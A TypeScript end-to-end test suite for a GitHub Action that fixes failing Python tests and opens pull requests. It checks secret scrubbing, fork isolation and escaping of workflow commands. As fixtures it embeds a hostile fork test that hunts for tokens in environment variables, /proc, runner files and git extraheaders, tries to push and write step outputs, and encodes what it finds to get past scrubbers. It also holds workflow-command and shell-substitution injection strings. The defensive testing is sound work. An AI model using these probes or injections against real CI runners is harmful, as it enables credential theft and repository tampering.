// End to end, the GitHub Action as the runner runs it: the committed bundle in a child
// process with the runner's environment, event file and INPUT_* variables, GitHub faked
// inside that process at the HTTP level (every request checked against GitHub's REST
// description), a real local bare repository as the remote, pytest run for real in the
// sandbox on the runner (the verifier), and the model-free template strategy.
import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, rename, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { beforeEach, describe, expect, it } from "vitest";
import { fakeActions, type FakeGitHubState } from "../support/fake-github.ts";
import { ciRun } from "../support/fake-actions-runner.ts";
import { fixtureCopy } from "../support/fixture-copies.ts";
import { commit, gitRepo, sh } from "../support/git-repo.ts";
import { runAction, type ActionRun } from "../support/run-action.ts";
import { webhookExample } from "../support/webhook-examples.ts";

const ROOT = fileURLToPath(new URL("../../", import.meta.url));
const TOKEN = "ghs_actionTokenForTests0123456789";
const LLM_KEY = "sk-action-llm-key-0123456789";
const CART_OK = "def total(prices, discount):\n    subtotal = sum(prices)\n    return subtotal - discount\n";
const CART_BAD = "def total(prices, discount):\n    subtotal = sum(prices)\n    return subtotal + discount\n";
// A parametrized id is the repository's text: it tries to end the annotation's properties and start a command of its own.
const EVIL_ID = "x::warning file=/etc/passwd::pwned, 100%";
const TESTS = `import pytest\n\nfrom shop.cart import total\n\n\n@pytest.mark.parametrize("case", ["${EVIL_ID}"])\ndef test_total_applies_discount(case):\n    assert total([10, 20], 5) == 25\n\n\ndef test_total_without_discount():\n    assert total([1, 2], 0) == 3\n`;
const PLAIN_TESTS = TESTS.replace(`"${EVIL_ID}"`, '"a"');
// Fails when the action's token or the model key reached the repository's test processes.
const ENV_TEST = `import os\n\n\ndef test_no_secret_in_environment():\n    leaked = [k for k, v in os.environ.items() if "${TOKEN.slice(0, 12)}" in v or "${LLM_KEY.slice(0, 12)}" in v]\n    assert leaked == []\n`;
/** Shifted by one code point: how the fork's probe writes what it found, so the scrubber cannot recognise it. */
const shifted = (text: string) => [...text].map((c) => String.fromCodePoint((c.codePointAt(0) ?? 0) + 1)).join("");
// A fork's test that hunts for the action's secrets wherever a test process could look, tries
// to push with whatever credentials it finds, and tries to write the step's outputs and summary.
const HOSTILE_FORK_TEST = `import base64
import glob
import os
import re
import subprocess

import pytest

# Reversed here, so this file (in the checkout the probe also searches) does not hold them.
CANARIES = [c[::-1] for c in ["${[...TOKEN.slice(0, 12)].reverse().join("")}", "${[...LLM_KEY.slice(0, 12)].reverse().join("")}"]]


def shifted(text):
    return "".join(chr(ord(c) + 1) for c in text)


def hits(where, data):
    return [where + ":" + shifted(data[max(0, data.find(c) - 40) : data.find(c) + 60]) for c in CANARIES if c in data]


def read(path):
    try:
        with open(path, "rb") as f:
            return f.read(4_000_000).decode("latin-1")
    except Exception:
        return ""


def runner_work_dirs():
    # A self-hosted runner's _work (the checkout with actions/checkout's token, _temp), from where this checkout sits.
    parts = os.getcwd().split(os.sep)
    return [os.sep.join(parts[: parts.index("_work") + 1])] if "_work" in parts else []


def probe():
    found = []
    for work in runner_work_dirs():
        for path in glob.glob(work + "/**", recursive=True) + glob.glob(work + "/**/.git/config", recursive=True):
            if os.path.isfile(path):
                data = read(path)
                found += hits(path, data)
                for header in re.findall(r"basic ([A-Za-z0-9+/=]+)", data, re.IGNORECASE):
                    found += hits(path + " (extraheader)", base64.b64decode(header).decode("latin-1"))
    for name, value in os.environ.items():
        found += hits("env " + name, name + "=" + value)
    for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
        found += hits(path, read(path))
    for pattern in ["/tmp/autogen-action-run-*/**", os.path.expanduser("~") + "/**", "/home/runner/work/_temp/**"]:
        for path in glob.glob(pattern, recursive=True):
            if os.path.isfile(path):
                found += hits(path, read(path))
    # The step's outputs and summary, if they were reachable.
    for path in glob.glob("/tmp/autogen-action-run-*/output") + glob.glob("/tmp/autogen-action-run-*/summary.md"):
        try:
            with open(path, "a") as f:
                f.write("pr-url=https://evil.example/\\n")
        except Exception:
            pass
    # A push with whatever credentials git finds, to the checkout's remote and to any bare repository in reach.
    remotes = ["origin"] + glob.glob("/tmp/autogen-action-*/remote.git")
    for remote in remotes:
        try:
            subprocess.run(["git", "push", "--quiet", remote, "HEAD:refs/heads/pwned-by-fork"], timeout=30, capture_output=True)
        except Exception:
            pass
    return found


FOUND = probe()


def test_fork_finds_no_secret():
    assert FOUND == [], " ".join(FOUND)


# Exfiltration through what the bot reports: the test ids (shifted, so no scrubber knows them).
@pytest.mark.parametrize("leak", [f[-70:] for f in FOUND] or ["nothing"])
def test_fork_reports(leak):
    assert leak == "nothing"
`;
const CONFIG = 'triggers:\n  ciFailure: auto\ntest:\n  env:\n    PYTEST_DISABLE_PLUGIN_AUTOLOAD: "1"\n';
const INPUTS = {
  "github-token": TOKEN,
  "llm-base-url": "",
  "llm-api-key": "",
  model: "",
  strategy: "template",
  label: "autogen",
  "max-cost-usd": "",
  "max-attempts": "",
  "app-slug": "",
};

let root: string;
let remote: string;
let work: string;

const remoteFile = (ref: string, path: string) =>
  execFileSync("git", ["--git-dir", remote, "show", `${ref}:${path}`], { encoding: "utf8" });
const remoteRefs = () =>
  execFileSync("git", ["--git-dir", remote, "for-each-ref", "--format=%(refname) %(objectname)"], { encoding: "utf8" });
const repository = (payload: Record<string, unknown>) => ({
  ...(payload.repository as object),
  name: "shop",
  full_name: "octo-org/shop",
  default_branch: "main",
  owner: { ...(payload.repository as { owner: object }).owner, login: "octo-org" },
});

/** The repository with `files` on main, as the workspace and its bare remote: built once per fixture, copied for each test. */
async function bareRemote(files: Record<string, string>) {
  work = await mkdtemp(join(tmpdir(), "autogen-gitrepo-"));
  remote = join(root, "remote.git");
  const build = async (dir: string) => {
    const built = await gitRepo({ ...files, ".github/autogen.yml": CONFIG });
    execFileSync("git", ["clone", "--quiet", "--bare", built, join(dir, "remote.git")]);
    await rename(built, join(dir, "work"));
  };
  await fixtureCopy(JSON.stringify(["action-flow", files]), build, { work, "remote.git": remote });
}

function baseState(): FakeGitHubState {
  return {
    issue: { title: "Discount is added instead of subtracted", body: "total([10, 20], 5) gives 35, it should be 25." },
    comments: [],
    pulls: [],
    permissions: { maintainer: "write", visitor: "read" },
    files: { ".github/autogen.yml": CONFIG },
    defaultBranch: "main",
    cloneUrl: remote,
    bot: { slug: "github-actions", id: 41898282 },
  };
}

/** Author and committer of a commit in the remote, as `name <email>`. */
const commitPeople = (ref: string) =>
  execFileSync("git", ["--git-dir", remote, "log", "-1", "--format=%an <%ae>|%cn <%ce>", ref], {
    encoding: "utf8",
  }).trim();

/** An `issues.labeled` payload as Actions gives it: no `installation`. */
function labeled(state: FakeGitHubState) {
  const payload = webhookExample("issues", "labeled") as Record<string, unknown> & { issue: Record<string, unknown> };
  payload.repository = repository(payload);
  payload.issue = { ...payload.issue, number: 42, title: state.issue.title, body: state.issue.body };
  payload.label = { ...(payload.label as object), name: "autogen" };
  payload.sender = { ...(payload.sender as object), login: "maintainer", id: 7, type: "User" };
  delete payload.installation;
  return payload;
}

/** An `issue_comment.created` payload on issue 42 as Actions gives it: no `installation`. */
function comment(state: FakeGitHubState, body: string) {
  const payload = webhookExample("issue_comment", "created") as Record<string, unknown> & {
    issue: Record<string, unknown>;
    comment: Record<string, unknown>;
  };
  payload.repository = repository(payload);
  payload.issue = {
    ...payload.issue,
    number: 42,
    title: state.issue.title,
    body: state.issue.body,
    pull_request: undefined,
  };
  payload.comment = { ...payload.comment, body };
  payload.sender = { ...(payload.sender as object), login: "maintainer", id: 7, type: "User" };
  delete payload.installation;
  return payload;
}

/** A `pull_request_review.submitted` on the bot's own PR (#50, head autogen/issue-42 in this repository). */
function review() {
  const payload = webhookExample("pull_request_review", "submitted") as Record<string, unknown> & {
    pull_request: Record<string, unknown>;
    review: Record<string, unknown>;
  };
  payload.repository = repository(payload);
  const head = payload.pull_request.head as Record<string, unknown>;
  payload.pull_request = {
    ...payload.pull_request,
    number: 50,
    title: "autogen: Discount is added instead of subtracted",
    body: "Closes #42",
    head: { ...head, ref: "autogen/issue-42", repo: { ...(head.repo as object), full_name: "octo-org/shop" } },
  };
  payload.review = { ...payload.review, state: "commented", body: "The discount must be subtracted." };
  payload.sender = { ...(payload.sender as object), login: "maintainer", id: 7, type: "User" };
  delete payload.installation;
  return payload;
}

/** Nothing the action wrote anywhere carries a secret. */
function expectNoSecrets(run: ActionRun) {
  const written = [
    run.stdout,
    run.stderr,
    run.summary,
    JSON.stringify(run.outputs),
    JSON.stringify(run.github.state?.comments ?? []),
    JSON.stringify(run.github.state?.pulls ?? []),
  ].join("\n");
  expect(written).not.toContain(TOKEN);
  expect(written).not.toContain(LLM_KEY);
}

function expectHonestGitHub(run: ActionRun) {
  expect(run.github.errors, "requests that do not fit GitHub's REST description").toEqual([]);
  expect(run.github.unmatched, "requests nothing answered").toEqual([]);
}

beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), "autogen-action-"));
});

describe("the GitHub Action", { timeout: 300_000 }, () => {
  it("a labelled issue: permission checked, tests run on the runner, PR opened; summary, annotations and outputs written, secrets nowhere", async () => {
    await bareRemote({
      "shop/__init__.py": "",
      "shop/cart.py": CART_BAD,
      "tests/test_cart.py": TESTS,
      "tests/test_env.py": ENV_TEST,
    });
    const state = baseState();
    const run = await runAction({
      event: "issues",
      payload: labeled(state),
      state,
      inputs: { ...INPUTS, "llm-api-key": "" },
      workspace: work,
      env: { GITHUB_TOKEN: TOKEN, ACTIONS_RUNTIME_TOKEN: LLM_KEY },
    });
    expect(run.code, run.stderr + run.stdout).toBe(0);
    expectHonestGitHub(run);
    expectNoSecrets(run);

    const ops = run.github.requests.map((r) => r.operation);
    expect(ops).toContain("repos/get-collaborator-permission-level");
    expect(ops).not.toContain("actions/create-workflow-dispatch");
    expect(remoteFile("autogen/issue-42", "shop/cart.py")).toContain("return subtotal - discount");
    // Made through the Git Data API with GITHUB_TOKEN: GitHub records github-actions[bot] (and signs it).
    expect(commitPeople("autogen/issue-42")).toBe(
      "github-actions[bot] <41898282+github-actions[bot]@users.noreply.github.com>|github-actions[bot] <41898282+github-actions[bot]@users.noreply.github.com>",
    );
    expect(ops).toContain("git/create-commit");
    const pulls = run.github.state.pulls;
    expect(pulls).toHaveLength(1);
    expect(pulls[0]).toMatchObject({ head: "autogen/issue-42", base: "main" });
    const status = run.github.state.comments[0]?.body ?? "";
    expect(status).toContain("verifier: local sandbox (`verify: local`)");
    // The test that would see a leaked secret passed, before and after.
    expect(pulls[0]?.body).toContain(
      "Regression gate (full suite): before 2 passed, 1 failed; after 3 passed, 0 failed.",
    );

    expect(run.outputs).toEqual({
      outcome: "fixed",
      "pr-url": `https://github.com/octo-org/shop/pull/${pulls[0]?.number}`,
      branch: "autogen/issue-42",
    });
    // The step summary is the PR body's report.
    expect(run.summary).toContain("## autogen: Discount is added instead of subtracted");
    expect(run.summary).toContain("### Proof");
    expect(run.summary).toContain("### Diff");

    const commands = run.stdout.split("\n").filter((l) => l.startsWith("::"));
    // The failing test: one error annotation, its hostile id escaped so it stays one property.
    const error = commands.find((l) =>
      l.startsWith("::error title=failing test%3A tests/test_cart.py%3A%3Atest_total_applies_discount["),
    );
    expect(error, commands.join("\n")).toBeDefined();
    expect(error).toContain("x%3A%3Awarning file=/etc/passwd%3A%3Apwned%2C 100%25]");
    expect(error).toMatch(/,file=tests\/test_cart\.py::/);
    // The changed line: a notice on shop/cart.py line 3.
    expect(commands).toContainEqual(
      expect.stringMatching(/^::notice title=changed by autogen-bot,file=shop\/cart\.py,line=3,endLine=3::/),
    );
    // No command the repository's text started.
    expect(commands.filter((l) => l.startsWith("::warning"))).toEqual([]);
    // Read as the runner reads it: properties up to the first `::`, split at `,`, each at its first `=`.
    const body = (error ?? "").slice("::error ".length);
    const properties = Object.fromEntries(
      body
        .slice(0, body.indexOf("::"))
        .split(",")
        .map((p) => [p.slice(0, p.indexOf("=")), p.slice(p.indexOf("=") + 1)]),
    );
    expect(Object.keys(properties)).toEqual(["title", "file"]);
    expect(properties.file).toBe("tests/test_cart.py");
  });

  it("a red workflow_run on a same-repository pull request: attribution, repair verified here, PR into the head branch", async () => {
    await bareRemote({ "shop/__init__.py": "", "shop/cart.py": CART_OK, "tests/test_cart.py": PLAIN_TESTS });
    const { state, red, headSha } = await redPull(false);
    const run = await runAction({
      event: "workflow_run",
      payload: workflowRun(red),
      state,
      inputs: INPUTS,
      workspace: work,
    });
    expect(run.code, run.stderr + run.stdout).toBe(0);
    expectHonestGitHub(run);
    expectNoSecrets(run);
    const branch = `autogen/fix-7-${headSha.slice(0, 7)}`;
    expect(run.github.state.pulls).toHaveLength(1);
    expect(run.github.state.pulls[0]).toMatchObject({ head: branch, base: "feature/bulk" });
    expect(remoteFile(branch, "shop/cart.py")).toContain("return subtotal - discount");
    expect(run.github.requests.map((r) => r.operation)).not.toContain("actions/create-workflow-dispatch");
    expect(run.outputs).toMatchObject({
      outcome: "fixed",
      branch,
      "pr-url": `https://github.com/octo-org/shop/pull/${run.github.state.pulls[0]?.number}`,
    });
    expect(run.summary).toContain("## autogen: repair of the red build of #7");
  });

  it("a red build from a fork: the patch in a comment, nothing pushed, no PR", async () => {
    await bareRemote({ "shop/__init__.py": "", "shop/cart.py": CART_OK, "tests/test_cart.py": PLAIN_TESTS });
    const { state, red } = await redPull(true);
    const before = remoteRefs();
    const run = await runAction({
      event: "workflow_run",
      payload: workflowRun(red),
      state,
      inputs: INPUTS,
      workspace: work,
    });
    expect(run.code, run.stderr + run.stdout).toBe(0);
    expectHonestGitHub(run);
    expectNoSecrets(run);
    const status = run.github.state.comments.find((c) => c.number === 7)?.body ?? "";
    expect(status).toContain("This pull request comes from a fork, so autogen-bot does not push to it");
    expect(status).toContain("-    return subtotal + discount\n+    return subtotal - discount");
    expect(run.github.state.pulls).toEqual([]);
    expect(remoteRefs()).toBe(before);
    expect(run.outputs).toMatchObject({ outcome: "fixed", branch: "", "pr-url": "" });
  });

  it("a red build from a hostile fork: its tests, run with the action's token and key set, find neither anywhere (environment, /proc, the runner's files), cannot push or write the step's outputs; nothing is written to GitHub but the comment", async () => {
    await bareRemote({ "shop/__init__.py": "", "shop/cart.py": CART_OK, "tests/test_cart.py": PLAIN_TESTS });
    const { state, red } = await redPull(true, { "tests/test_hostile.py": HOSTILE_FORK_TEST });
    const before = remoteRefs();
    const run = await runAction({
      event: "workflow_run",
      payload: workflowRun(red),
      state,
      inputs: { ...INPUTS, "llm-base-url": "http://127.0.0.1:9/v1", "llm-api-key": LLM_KEY },
      workspace: work,
      env: { GITHUB_TOKEN: TOKEN, ACTIONS_RUNTIME_TOKEN: TOKEN, ACTIONS_ID_TOKEN_REQUEST_TOKEN: LLM_KEY },
    });
    expect(run.code, run.stderr + run.stdout).toBe(0);
    expectHonestGitHub(run);
    expectNoSecrets(run);
    const written = [
      run.stdout,
      run.stderr,
      run.summary,
      JSON.stringify(run.outputs),
      JSON.stringify(run.github.requests),
    ].join("\n");
    // What the fork's test exfiltrates it writes shifted by one code point, a form no scrubber knows.
    expect(written).not.toContain(shifted(TOKEN.slice(0, 12)));
    expect(written).not.toContain(shifted(LLM_KEY.slice(0, 12)));
    // The fork's probe passed in every run (it fails when it finds a secret), so the fix held with it in the suite.
    const status = run.github.state.comments.find((c) => c.number === 7)?.body ?? "";
    expect(status).toContain("This pull request comes from a fork, so autogen-bot does not push to it");
    expect(status).toMatch(/Regression gate \(full suite\): before \d+ passed, 1 failed; after 4 passed, 0 failed\./);
    // Nothing pushed (by the bot, or by the fork's `git push`), no branch, no PR; the outputs are the bot's, not the fork's.
    expect(remoteRefs()).toBe(before);
    expect(run.outputs).toEqual({ outcome: "fixed", branch: "", "pr-url": "" });
    const writes = run.github.requests.filter((r) => r.method !== "GET").map((r) => r.operation);
    expect(writes.filter((op) => op.startsWith("git/") || op.startsWith("pulls/"))).toEqual([]);
    expect(writes).toContain("issues/create-comment");
    expect(
      writes.filter(
        (op) =>
          ![
            "issues/create-comment",
            "issues/update-comment",
            "reactions/create-for-issue",
            "checks/create",
            "checks/update",
          ].includes(op),
      ),
    ).toEqual([]);
  });

  it("on a self-hosted runner (its _work outside /home): the fork's tests cannot read the workflow's checkout (actions/checkout's token in .git/config) or the runner's temp directory", async () => {
    await bareRemote({ "shop/__init__.py": "", "shop/cart.py": CART_OK, "tests/test_cart.py": PLAIN_TESTS });
    const { state, red } = await redPull(true, { "tests/test_hostile.py": HOSTILE_FORK_TEST });
    // The runner's layout, under the project (visible in the sandbox like any host directory): _work/<repo>/<repo> and _work/_temp.
    await mkdir(join(ROOT, "test-artifacts"), { recursive: true });
    const runner = await mkdtemp(join(ROOT, "test-artifacts", "runner-"));
    try {
      const checkout = join(runner, "_work", "shop", "shop");
      const temp = join(runner, "_work", "_temp");
      await mkdir(temp, { recursive: true });
      execFileSync("git", ["clone", "--quiet", remote, checkout]);
      // What actions/checkout (persist-credentials: true, its default) leaves in the checkout.
      sh(
        checkout,
        "config",
        "--local",
        "http.https://github.com/.extraheader",
        `AUTHORIZATION: basic ${Buffer.from(`x-access-token:${TOKEN}`).toString("base64")}`,
      );
      await writeFile(join(temp, "llm-key.txt"), `${LLM_KEY}\n`);
      const run = await runAction({
        event: "workflow_run",
        payload: workflowRun(red),
        state,
        inputs: { ...INPUTS, "llm-base-url": "http://127.0.0.1:9/v1", "llm-api-key": LLM_KEY },
        workspace: checkout,
        env: { RUNNER_TEMP: temp },
      });
      expect(run.code, run.stderr + run.stdout).toBe(0);
      expectHonestGitHub(run);
      const status = run.github.state.comments.find((c) => c.number === 7)?.body ?? "";
      const written = [run.stdout, run.stderr, run.summary, JSON.stringify(run.github.requests)].join("\n");
      expect(written).not.toContain(shifted(TOKEN.slice(0, 12)));
      expect(written).not.toContain(shifted(LLM_KEY.slice(0, 12)));
      expect(status).toMatch(/Regression gate \(full suite\): before \d+ passed, 1 failed; after 4 passed, 0 failed\./);
      expect(run.outputs).toEqual({ outcome: "fixed", branch: "", "pr-url": "" });
    } finally {
      await rm(runner, { recursive: true, force: true });
    }
  });

  it("a workflow_run payload that lies about a fork (its PR listed as in this repository, head_repository this one): GitHub's answer decides, nothing pushed", async () => {
    await bareRemote({ "shop/__init__.py": "", "shop/cart.py": CART_OK, "tests/test_cart.py": PLAIN_TESTS });
    const { state, red } = await redPull(true);
    const before = remoteRefs();
    const payload = workflowRun({ ...red, pull_requests: [{ number: 7 }] });
    const same = payload.repository as Record<string, unknown>;
    payload.workflow_run = { ...payload.workflow_run, head_repository: same, repository: same };
    const run = await runAction({ event: "workflow_run", payload, state, inputs: INPUTS, workspace: work });
    expect(run.code, run.stderr + run.stdout).toBe(0);
    expectHonestGitHub(run);
    expect(run.github.state.comments.find((c) => c.number === 7)?.body ?? "").toContain(
      "This pull request comes from a fork, so autogen-bot does not push to it",
    );
    expect(remoteRefs()).toBe(before);
    expect(
      run.github.requests.filter((r) => r.operation.startsWith("git/") || r.operation.startsWith("pulls/create")),
    ).toEqual([]);
    expect(run.outputs).toMatchObject({ outcome: "fixed", branch: "", "pr-url": "" });
  });

  it("hostile input values (newlines, workflow commands, shell metacharacters) start no command, set no output and run nothing", async () => {
    await bareRemote({ "shop/__init__.py": "", "shop/cart.py": CART_BAD, "tests/test_cart.py": PLAIN_TESTS });
    const state = baseState();
    const marker = join(root, "pwned");
    const evil = (name: string) =>
      `x\n::warning::${name} injected\n::set-output name=outcome::pwned\n$(touch ${marker})\`touch ${marker}\`;touch ${marker}`;
    // Accepted values (label, model): the event is no trigger for that label, so the job never starts.
    const idle = await runAction({
      event: "issues",
      payload: labeled(state),
      state,
      inputs: { ...INPUTS, label: evil("label").slice(0, 50), model: evil("model") },
      workspace: work,
    });
    // Refused values (strategy, app-slug, max-attempts): one error annotation naming them, escaped.
    const refused = await runAction({
      event: "issues",
      payload: labeled(state),
      state,
      inputs: { ...INPUTS, strategy: evil("strategy"), "app-slug": evil("slug"), "max-attempts": evil("attempts") },
      workspace: work,
    });
    expect(idle.code, idle.stderr + idle.stdout).toBe(0);
    expect(idle.outputs).toEqual({ outcome: "skipped", "pr-url": "", branch: "" });
    expect(refused.code).toBe(1);
    expect(refused.outputs).toEqual({});
    const commands = refused.stdout.split("\n").filter((l) => l.startsWith("::"));
    expect(commands).toHaveLength(1);
    expect(commands[0]).toMatch(/^::error::`strategy` is ".*`max-attempts` is ".*`app-slug` is "/);
    for (const run of [idle, refused]) {
      expect(
        run.stdout.split("\n").filter((l) => /^::(warning|set-output|add-mask|stop-commands|notice)/.test(l)),
      ).toEqual([]);
      expect(run.stdout + run.stderr + run.summary).not.toMatch(/^::warning::/m);
      expect(run.github.requests.filter((r) => r.method !== "GET")).toEqual([]);
    }
    expect(existsSync(marker)).toBe(false);
  });

  it("`/autogen fix` in an issue comment starts the same job; a comment that is no command starts none (outcome skipped)", async () => {
    await bareRemote({ "shop/__init__.py": "", "shop/cart.py": CART_BAD, "tests/test_cart.py": PLAIN_TESTS });
    const state = baseState();
    const idle = await runAction({
      event: "issue_comment",
      payload: comment(state, "thanks, looks good"),
      state,
      inputs: INPUTS,
      workspace: work,
    });
    expect(idle.code, idle.stderr + idle.stdout).toBe(0);
    expect(idle.outputs).toEqual({ outcome: "skipped", "pr-url": "", branch: "" });
    expect(idle.github.requests).toEqual([]);
    const run = await runAction({
      event: "issue_comment",
      payload: comment(state, "/autogen fix"),
      state,
      inputs: INPUTS,
      workspace: work,
    });
    expect(run.code, run.stderr + run.stdout).toBe(0);
    expectHonestGitHub(run);
    expect(run.github.state.pulls).toHaveLength(1);
    expect(run.outputs).toMatchObject({ outcome: "fixed", branch: "autogen/issue-42" });
    expect(remoteFile("autogen/issue-42", "shop/cart.py")).toContain("return subtotal - discount");
  });

  it("with an App token and its app-slug: the commit is by that App's bot, whose id GitHub gives", async () => {
    await bareRemote({ "shop/__init__.py": "", "shop/cart.py": CART_BAD, "tests/test_cart.py": PLAIN_TESTS });
    const state = { ...baseState(), bot: { slug: "octo-fixer", id: 5150 } };
    const run = await runAction({
      event: "issue_comment",
      payload: comment(state, "/autogen fix"),
      state,
      inputs: { ...INPUTS, "app-slug": "octo-fixer" },
      workspace: work,
    });
    expect(run.code, run.stderr + run.stdout).toBe(0);
    expectHonestGitHub(run);
    expect(run.github.requests.map((r) => r.operation)).toContain("users/get-by-username");
    expect(commitPeople("autogen/issue-42")).toBe(
      "octo-fixer[bot] <5150+octo-fixer[bot]@users.noreply.github.com>|octo-fixer[bot] <5150+octo-fixer[bot]@users.noreply.github.com>",
    );
  });

  it("a review of its own pull request: another iteration pushed to that PR's branch", async () => {
    await bareRemote({ "shop/__init__.py": "", "shop/cart.py": CART_BAD, "tests/test_cart.py": PLAIN_TESTS });
    sh(work, "push", "--quiet", remote, "main:autogen/issue-42");
    const state: FakeGitHubState = {
      ...baseState(),
      issues: { 50: { title: "autogen: Discount is added instead of subtracted", body: "Closes #42" } },
    };
    const run = await runAction({
      event: "pull_request_review",
      payload: review(),
      state,
      inputs: INPUTS,
      workspace: work,
    });
    expect(run.code, run.stderr + run.stdout).toBe(0);
    expectHonestGitHub(run);
    expect(run.github.requests.map((r) => r.operation)).toContain("repos/get-collaborator-permission-level");
    expect(remoteFile("autogen/issue-42", "shop/cart.py")).toContain("return subtotal - discount");
    expect(run.outputs).toMatchObject({ outcome: "fixed", branch: "autogen/issue-42" });
  });

  it("a model strategy without a model endpoint: a clear error naming the inputs to set, nothing done", async () => {
    await bareRemote({ "shop/__init__.py": "", "shop/cart.py": CART_BAD, "tests/test_cart.py": PLAIN_TESTS });
    const state = baseState();
    const run = await runAction({
      event: "issues",
      payload: labeled(state),
      state,
      inputs: { ...INPUTS, strategy: "lpw" },
      workspace: work,
    });
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(/^::error::`strategy: lpw` needs a model: set `llm-api-key`.*`llm-base-url`/m);
    expect(run.github.requests).toEqual([]);
  });

  it("no github-token: a clear error saying what to set", async () => {
    await bareRemote({ "shop/__init__.py": "", "shop/cart.py": CART_BAD, "tests/test_cart.py": PLAIN_TESTS });
    const state = baseState();
    const run = await runAction({
      event: "issues",
      payload: labeled(state),
      state,
      inputs: { ...INPUTS, "github-token": "" },
      workspace: work,
    });
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(
      /^::error::`github-token` is empty: leave it at its default \(`\$\{\{ github\.token \}\}`\) or pass an App token from actions\/create-github-app-token/m,
    );
    expect(run.github.requests).toEqual([]);
  });
});

/** main is green; a pull request (its branch, or for a fork only refs/pull/7/head) breaks the discount, and its CI ran red. */
async function redPull(fork: boolean, extra: Record<string, string> = {}) {
  const baseSha = sh(work, "rev-parse", "HEAD");
  sh(work, "switch", "--quiet", "--create", "feature/bulk");
  await writeFile(join(work, "shop/cart.py"), CART_BAD);
  for (const [path, text] of Object.entries(extra)) await writeFile(join(work, path), text);
  sh(work, "add", "--all");
  commit(work, "Break the discount");
  const headSha = sh(work, "rev-parse", "HEAD");
  sh(work, "push", "--quiet", remote, fork ? "HEAD:refs/pull/7/head" : "feature/bulk");
  const state: FakeGitHubState = {
    ...baseState(),
    issue: { title: "unused", body: "" },
    prs: {
      7: {
        title: "Bulk totals",
        body: "Adds bulk_total.",
        state: "open",
        headRef: "feature/bulk",
        headSha,
        baseRef: "main",
        baseSha,
        fork,
      },
    },
    commitPulls: { [headSha]: [7] },
  };
  const actions = fakeActions([]);
  state.actions = actions;
  const red = await ciRun(actions, remote, { sha: headSha, branch: "feature/bulk", number: 7, fork });
  return { state, red, headSha };
}

/** `workflow_run.completed` as Actions gives it to a workflow in the base repository: no `installation`. */
function workflowRun(run: { id: number; head_sha: string; pull_requests: Array<{ number: number }> }) {
  const payload = webhookExample("workflow_run", "completed") as Record<string, unknown> & {
    workflow_run: Record<string, unknown>;
    workflow: Record<string, unknown>;
  };
  payload.repository = repository(payload);
  payload.workflow = { ...payload.workflow, path: ".github/workflows/ci.yml" };
  payload.workflow_run = {
    ...payload.workflow_run,
    id: run.id,
    path: ".github/workflows/ci.yml",
    event: "pull_request",
    status: "completed",
    conclusion: "failure",
    head_sha: run.head_sha,
    head_branch: "feature/bulk",
    pull_requests: run.pull_requests.map((p) => ({
      number: p.number,
      head: { ref: "feature/bulk", sha: run.head_sha, repo: {} },
      base: { ref: "main", sha: "0", repo: {} },
    })),
  };
  payload.sender = { ...(payload.sender as object), login: "maintainer", id: 7, type: "User" };
  delete payload.installation;
  return payload;
}
